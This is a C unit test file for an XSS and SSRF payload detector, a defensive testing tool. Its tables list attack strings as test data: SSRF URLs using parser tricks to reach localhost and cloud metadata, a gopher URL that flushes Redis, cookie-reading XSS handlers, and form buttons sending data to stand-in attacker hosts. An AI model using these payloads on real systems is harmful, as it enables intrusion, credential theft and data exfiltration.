/* test_payload_r11x.c - issue 20, helper x (the eleventh XSS and SSRF red
 * team): rows of its tables' findings and of the last round's leftovers.
 * SSRF: the URL confusions where the WHATWG parser and the other common
 * parsers part (a '\' before '@', tabs and line breaks the WHATWG parser
 * drops, a special scheme with no slashes); a '#' before '@' ends the
 * authority for every parser, so "http://evil.example#@127.0.0.1/" names
 * evil.example and stays quiet. Benign: database connection strings and
 * environment lines naming a local server, a development server's API
 * path on localhost (told). XSS: a handler asking the user a question
 * (return confirm('Are you sure?')), printing the page; a fallback-image
 * handler whose tag a raw query's first '=' split; a meta refresh to a
 * path of the site stays quiet (the GET an <img src=/logout> makes). */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define X PAYLOAD_XSS
#define S PAYLOAD_SSRF
#define N PAYLOAD_NONE

/* the best score of any kind for v as a whole raw query (';' and '&'
 * part its fields, as in payload-dump's reading) */
static int raw_query_best(const char *v)
{
	struct payload_match m[PAYLOAD__COUNT];
	int k = payload_scan_query(v, strlen(v), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT), best = 0;

	for (int i = 0; i < k; i++)
		if (m[i].score > best)
			best = m[i].score;
	return best;
}

/* parsers that part: WHATWG ends the authority at '\' (a special
 * scheme's path), Python's urlsplit and others keep it and take the host
 * after '@'; the WHATWG parser drops every tab and line break; "http:h"
 * is "http://h" to it */
static void test_ssrf_parser_confusion(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"http://evil.example#@127.0.0.1/", N},
		{"https://evil.example/#@localhost", N},
		{"http://evil.example\\@127.0.0.1/", S},
		{"http://evil.example\\@169.254.169.254/latest/meta-data/", S},
		{"http://127.0.0.1\\@evil.example/", S},
		{"http://127.0.0.\t1/admin", S},
		{"http://loc\talhost/admin", S},
		{"http://169.254.\n169.254/latest/", S},
		{"http:127.0.0.1/admin", S},
		{"http:169.254.169.254/latest/meta-data/", S},
		{"https:localhost:8443/admin", S},
	};
	rt_run_kill("parser confusion", S, t, sizeof(t) / sizeof(t[0]));
}

/* a database or broker connection string is no URL a server fetches:
 * quiet on a local host (a config screen, a .env line); an HTTP URL in
 * an environment line, and a development API path on localhost: told */
static void test_ssrf_local_config(void **st)
{
	(void)st;
	static const char *const told[] = {
		"DATABASE_URL=postgres://user:pw@localhost:5432/db",
		"REDIS_URL=redis://localhost:6379/0",
		"mongodb://localhost:27017/test",
		"postgresql://app:secret@127.0.0.1:5432/app_dev",
		"jdbc:mysql://localhost:3306/shop?useSSL=false",
		"amqp://guest:guest@localhost:5672/",
		"API_BASE=http://localhost:8000/api/v1/",
		"http://localhost:8000/api/v1/",
		"http://localhost:4200/dashboard",
		"http://localhost:8080/swagger-ui/index.html",
	};
	static const struct rtcase t[] = {
		{"http://localhost:8080/admin", S},
		{"http://localhost:8080/manager/html", S},
		{"http://localhost:8000/api/v1/../../admin", S},
		{"http://localhost:8000/api/v1/?url=http://x%0d%0a", S},
		{"http://127.0.0.1:8000/api/v1/", S},
		{"http://localhost:6379/", S},
		{"http://localhost:8500/v1/agent/self", S},
		{"http://localhost:2375/containers/json", S},
		{"http://localhost/server-status", S},
		{"http://localhost:8080/actuator/env", S},
		{"redis://169.254.169.254:6379/", S},
		{"DATABASE_URL=http://169.254.169.254/latest/meta-data/", S},
		{"URL=gopher://127.0.0.1:6379/_FLUSHALL", S},
	};
	rt_below_kill("local config", told, sizeof(told) / sizeof(told[0]));
	rt_run_kill("local config attacks", S, t, sizeof(t) / sizeof(t[0]));
}

/* handlers that ask the user, print the page, or fall back to another
 * image of the site: no script of the attacker's runs */
static void test_xss_ask_print(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"<button onclick=\"return confirm('Are you sure?')\">Delete</button>", N},
		{"onclick=\"return confirm('Are you sure?')\"", N},
		{"<a href=\"/items/5/delete\" onclick=\"return confirm('Delete this item permanently?');\">x</a>", N},
		{"<a href=\"#\" onclick=\"window.print();return false;\">Print</a>", N},
		{"<button onclick=\"return confirm('Are you sure?'+document.cookie)\">x", X},
		{"<button onclick=\"return confirm('Are you sure?')&&alert(1)\">x", X},
		{"<button onclick=\"confirm('Are you sure?')\">x", X},
		{"<button onclick=\"return confirm('XSS')\">x", X},
		{"<button onclick=\"return confirm(`are you sure?`)\">x", X},
		{"<a onclick=\"window.print()\">x", X},
		{"<a onclick=\"print()\">x", X},
		{"<a href=# onclick=\"window.print();alert(1);return false;\">x", X},
	};
	rt_run_kill("ask and print", X, t, sizeof(t) / sizeof(t[0]));
}

/* "<img onerror="this.onerror=null;this.src='/img/fallback.png'">" as a
 * raw query: ';' cuts it after this.onerror=null, which stops no image */
static void test_xss_fallback_cut(void **st)
{
	(void)st;
	assert_true(raw_query_best("<img onerror=\"this.onerror=null;this.src='/img/fallback.png'\">") < 60);
	assert_true(raw_query_best("<img src=x onerror=\"this.onerror=null;alert(1)\">") >= 60);
	assert_true(raw_query_best("<img src=x onerror=\"alert(1);this.src='/a.png'\">") >= 60);
	assert_true(raw_query_best("<img src=x onerror=\"eval(name);x\">") >= 60);
}

/* a refresh to a path of the site (content="0;url=/logout") is a GET
 * with the user's cookies, the same request an <img src=/logout> or a
 * link makes, and the same shape as a CMS's moved page: quiet. A GET
 * that changes state is the application's bug, not this value's. */
static void test_xss_site_refresh_quiet(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"<meta http-equiv=refresh content=\"0;url=/logout\">", N},
		{"<meta http-equiv=\"refresh\" content=\"0; url=/new-page\">", N},
		{"<meta http-equiv=refresh content=\"0;url=//evil.example/logout\">", X},
		{"<meta http-equiv=refresh content=\"0;url=/\\evil.example\">", X},
		{"<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", X},
	};
	rt_run_kill("site refresh", X, t, sizeof(t) / sizeof(t[0]));
}

/* a button's formaction sends the form it is put in (the page's, with
 * its token and what the user typed) to another host: told for a named
 * host, killed for a bare or disguised one; a path of the site: quiet */
static void test_xss_formaction_away(void **st)
{
	(void)st;
	static const char *const told[] = {
		"<form><button formaction=//evil.example/steal>x",
		"<button formaction=\"https://evil.example/collect\">Save</button>",
	};
	static const struct rtcase t[] = {
		{"<button type=\"submit\" formaction=\"/posts/save-draft\">Save draft</button>", N},
		{"<input type=submit formaction=\"?preview=1\" value=Preview>", N},
		{"<button formaction=http://203.0.113.9/x>go</button>", X},
		{"<button formaction=\"https://example.com@203.0.113.9/\">go</button>", X},
		{"<input type=image src=x formaction=//0xcb007109/>", X},
	};
	for (size_t i = 0; i < sizeof(told) / sizeof(told[0]); i++)
		assert_int_equal(rt_best(told[i], 0, X), 55);
	rt_below_kill("formaction away", told, sizeof(told) / sizeof(told[0]));
	rt_run_kill("formaction away", X, t, sizeof(t) / sizeof(t[0]));
}

/* a loopback sign-in callback inside JSON or markup text ends at the
 * quote around it */
static void test_ssrf_callback_quoted(void **st)
{
	(void)st;
	static const char *const told[] = {
		"{\"redirect_uri\":\"http://localhost:3000/auth/callback\"}",
		"<a href=\"http://127.0.0.1:8400/oauth2callback\">x</a>",
	};
	static const struct rtcase t[] = {
		{"{\"url\":\"http://localhost:3000/auth/callback/../../admin\"}", S},
		{"{\"url\":\"http://localhost:6379/callback\"}", S},
	};
	rt_below_kill("callback quoted", told, sizeof(told) / sizeof(told[0]));
	rt_run_kill("callback quoted", S, t, sizeof(t) / sizeof(t[0]));
}

/* the second table's misses and kills: circled letters IDNA maps to a
 * name, a tab before userinfo's '@'; a development origin filling an
 * attribute or a link's text, the redirect endpoints of python-social-
 * auth, Spring and Flask-Dance, a shell's export line */
static void test_second_table(void **st)
{
	(void)st;
	static const char *const told[] = {
		"<p>Run <code>npm start</code> then open <a href=\"http://localhost:3000\">http://localhost:3000</a>.</p>",
		"http://127.0.0.1:8000/auth/complete/github/",
		"http://localhost:8080/login/oauth2/code/google",
		"http://localhost:5000/login/google/authorized",
		"export OLLAMA_HOST=http://localhost:11434",
	};
	static const struct rtcase t[] = {
		{"http://\xe2\x93\x9b\xe2\x93\x9e\xe2\x93\x92\xe2\x93\x90\xe2\x93\x9b\xe2\x93\x97\xe2\x93\x9e\xe2\x93\xa2\xe2\x93\xa3/admin", S},
		{"http://evil.example\t@127.0.0.1/", S},
		{"<a href=\"http://localhost:3000/admin\">x</a>", S},
		{"<img src=\"http://localhost:6379\">", S},
		{"http://127.0.0.1:8000/auth/complete/github/../../../admin", S},
		{"http://localhost:8080/login/oauth2/code/google/../../../../actuator/env", S},
		{"export X=http://169.254.169.254/latest/meta-data/", S},
	};
	rt_below_kill("second table", told, sizeof(told) / sizeof(told[0]));
	rt_run_kill("second table", S, t, sizeof(t) / sizeof(t[0]));
}

/* a link back or a reload as a script URL runs nothing of the
 * attacker's; a URL that leaves a string or calls a sink stays */
static void test_xss_inert_script_url(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"<a href=\"javascript:history.back()\">Back</a>", N},
		{"<a href=\"javascript:window.history.back();\">Back</a>", N},
		{"<a href=\"javascript:location.reload()\">Reload</a>", N},
		{"<a href=\"javascript:history.back();alert(1)\">x</a>", X},
		{"<a href=\"javascript:history.back()//\">x</a>", X},
		{"<a href=javascript:history.back()>x</a>", X},
		{"<a href=\"javascript:'<img src=x onerror=alert(1)>'\">x</a>", X},
		{"javascript:history.back();alert(document.domain)", X},
		/* a search for the idiom: an expression then words cannot
		 * compile */
		{"javascript:void(0) meaning", N},
		{"javascript:void(0) error in chrome", N},
		{"javascript:void(0)\nalert(1)", X},
		{"javascript:void(0);alert(1)", X},
		{"javascript:void(0) alert(1)", X},
		{"javascript:void(0) \u2028alert(1)", X},
	};
	rt_run_kill("inert script url", X, t, sizeof(t) / sizeof(t[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_ssrf_parser_confusion),
		cmocka_unit_test(test_ssrf_local_config),
		cmocka_unit_test(test_xss_ask_print),
		cmocka_unit_test(test_xss_fallback_cut),
		cmocka_unit_test(test_xss_site_refresh_quiet),
		cmocka_unit_test(test_xss_formaction_away),
		cmocka_unit_test(test_ssrf_callback_quoted),
		cmocka_unit_test(test_second_table),
		cmocka_unit_test(test_xss_inert_script_url),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
